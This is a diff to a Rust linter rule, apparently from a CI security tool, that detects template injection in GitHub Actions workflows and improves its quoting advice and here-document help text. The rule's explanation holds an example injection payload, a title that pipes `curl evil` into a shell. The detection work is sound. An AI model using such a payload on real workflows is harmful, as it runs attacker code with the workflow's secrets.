@@ -2,6 +2,7 @@ use crate::{Ctx, rule};
 use shipshape_core::classify::FileKind;
 use shipshape_core::project::Project;
 use shipshape_core::{Confidence, Diagnostic, Severity};
+use shipshape_knowledge::shell::Quote;
 use shipshape_yaml::{NodeRef, Yaml};
 use std::collections::{HashMap, HashSet};
 use std::path::PathBuf;
@@ -14,7 +15,7 @@ rule! {
     why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
     example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
     instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
-    fix_safety: "Unsafe: moves the value into the step's `env:` and uses `${NAME}` in the script (in `run:` only). Inside single quotes the shell does not expand variables, so check the quoting.",
+    fix_safety: "Unsafe: moves the value into the step's `env:` and uses it where the expression was (in `run:` only), quoted for the place so the script reads the same text: `\"${NAME}\"` outside quotes, `${NAME}` in double quotes, `'\"${NAME}\"'` inside single quotes, `${env:NAME}` in PowerShell. No fix inside a quoted here-document (`<<'EOF'`) or a PowerShell single-quoted string, which expand nothing: write the value out with `printf '%s' \"$NAME\"` instead.",
     refs: "- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections\n- https://docs.zizmor.sh/audits/#template-injection",
     spans: ["${{ github.event.issue.title }}"],
 }
@@ -647,11 +648,21 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                     }
                     let fix = written
                         .filter(|_| what == "run")
-                        .and_then(|w| cx.env_fix(step, places.get(w).map_or(&[][..], Vec::as_slice), w, &env_name(path)));
+                        .and_then(|w| cx.env_fix(job, step, places.get(w).map_or(&[][..], Vec::as_slice), w, &env_name(path)));
+                    // `cat <<'EOF'` expands nothing, but the runner pastes the value first.
+                    let in_literal_heredoc = what == "run"
+                        && cx
+                            .run_script(node, true)
+                            .is_some_and(|s| s.quote_at(e.span.start) == Quote::Heredoc { literal: true });
+                    let help = if in_literal_heredoc {
+                        "a quoted here-document (`<<'EOF'`) does not stop this: the runner pastes the value into the script before the shell reads it, and a line equal to the delimiter ends the here-document early. Pass it through `env:` and write it out with `printf '%s\\n' \"$VALUE\"`"
+                    } else {
+                        "pass it through `env:` (`env: VALUE: ${{ … }}`) and use `\"$VALUE\"` in the script"
+                    };
                     out.push(
                         Diagnostic::new(meta(), e.span, message)
                             .severity(severity)
-                            .help("pass it through `env:` (`env: VALUE: ${{ … }}`) and use `\"$VALUE\"` in the script")
+                            .help(help)
                             .confidence(confidence)
                             .maybe_fix(fix),
                     );
